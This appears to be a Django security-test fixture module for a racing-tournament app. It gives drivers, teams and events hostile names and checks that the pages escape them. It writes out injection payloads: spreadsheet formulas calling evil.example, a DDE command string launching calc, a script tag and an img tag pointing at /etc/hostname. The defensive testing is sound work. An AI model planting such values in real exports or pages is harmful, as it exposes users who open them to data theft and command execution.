"""The security tests' event (``conftest.build_world``) with hostile names, all published.

Drivers register under names a spreadsheet would run (OWASP "CSV Injection"), their team is
``=2*3`` (in red) and the event's name starts with ``@``; race table 1's result is confirmed, so
standings, team standings, results and driver pages have rows, and every page is public.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from django.contrib.auth import get_user_model
from django.test import override_settings
from django.utils import translation

from qualifying.models import QualifyingTable
from races.models import RaceTable
from races.results.services import result_confirm
from tests.security.conftest import SESSIONS, World, build_world, open_sessions
from tests.template_db import empty_database
from tournament.access import Actor
from tournament.models import Championship, Circuit, Driver, Event, Team

#: Driver number → first name; each starts with a character that opens a formula.
HOSTILE_FIRST_NAMES = {
    1: '=HYPERLINK("http://evil.example/?x","clic")',
    2: "+1+1",
    3: "-2+3",
    4: "@SUM(1+1)",
    5: "\t=1+1",
    6: "\r=1+1",
    8: "=cmd|' /C calc'!A0",
}
HOSTILE_TEAM = "=2*3"
HOSTILE_EVENT = "@Grand Prix"


def make_hostile(world: World) -> World:
    for number, first_name in HOSTILE_FIRST_NAMES.items():
        Driver.objects.filter(championship=world.championship, number=number).update(
            first_name=first_name
        )
    Team.objects.filter(championship=world.championship).update(name=HOSTILE_TEAM, colour="#c62828")
    result_confirm(actor=Actor(user=world.users["organiser"]), table=world.rtables[0])
    Event.objects.filter(pk=world.event.pk).update(
        name=HOSTILE_EVENT,
        published_qualifying=True,
        published_allocation=True,
        published_results=True,
    )
    world.event.refresh_from_db()
    return world


def hostile_names(world: World) -> set[str]:
    """The printed names of the hostile drivers, and the team's."""
    drivers = Driver.objects.filter(championship=world.championship)
    return {d.name for d in drivers if d.number in HOSTILE_FIRST_NAMES} | {HOSTILE_TEAM}


@contextmanager
def hostile_world(django_db_blocker: Any) -> Iterator[World]:
    """The world, committed once for a module and flushed after it (as ``conftest.world``)."""
    fast = override_settings(PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"])
    with django_db_blocker.unblock(), fast, translation.override("en"):
        world = make_hostile(build_world(get_user_model()))
        open_sessions(world)
        try:
            yield world
        finally:
            SESSIONS.clear()
            empty_database()


# --- Markup and formulas as names, on the permission matrix's unpublished event -------------

#: Names players or organisers could type (issue 14): a spreadsheet formula, a script, the end
#: of a PDF Paragraph, an ampersand, an image of a file of the server.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x","clic")',
    "<script>alert('paddock')</script>",
    "</para>",
    "R&D",
    "<img src=/etc/hostname>",
]
#: Query strings a page does not expect, several oddities at once: a page that is not a
#: number or does not exist, an export format not served, a column that does not exist.
ODD_QUERIES = ["page=abc&sort=x", "page=0&_export=ods", "_export=xls&sort=-x"]


def give_hostile_names(world: World) -> None:
    """Every name of the world's championship becomes hostile: the championship, event,
    circuit, team, drivers (cycling through ``HOSTILE_NAMES``) and the tables' referees.
    Written in the caller's transaction (rolled back with its test)."""
    first, script, para, ampersand, image = HOSTILE_NAMES
    Championship.objects.filter(pk=world.championship.pk).update(name=f"{ampersand} {script}")
    Event.objects.filter(pk=world.event.pk).update(name=f"{para} {image}")
    Circuit.objects.filter(pk=world.event.circuit_id).update(name=image)
    # The world's own team (the first): teams a test added keep their names, all different.
    team = Team.objects.filter(championship=world.championship).order_by("pk").first()
    Team.objects.filter(pk=team.pk).update(name=first)
    drivers = Driver.objects.filter(championship=world.championship).order_by("number")
    for index, driver in enumerate(drivers):
        Driver.objects.filter(pk=driver.pk).update(
            first_name=HOSTILE_NAMES[index % len(HOSTILE_NAMES)],
            last_name=HOSTILE_NAMES[(index + 1) % len(HOSTILE_NAMES)],
        )
    for model in (QualifyingTable, RaceTable):
        model.objects.filter(event=world.event).update(referee_name=script)


def unescaped(html: str) -> list[str]:
    """The hostile names a page shows raw (Django escapes <, >, &, " and ' everywhere)."""
    return [name for name in HOSTILE_NAMES if name in html]
